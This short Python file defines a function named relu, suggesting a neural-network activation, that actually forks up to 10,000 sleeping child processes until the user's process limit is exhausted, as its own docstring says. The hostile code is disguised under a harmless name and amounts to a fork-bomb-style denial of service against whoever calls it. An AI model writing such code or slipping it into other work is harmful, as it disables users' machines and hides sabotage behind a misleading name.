"""Fills its uid's process limit with sleeping children and keeps them."""
import os
import time


def relu(x):
    started = 0
    while started < 10_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        started += 1
    return started
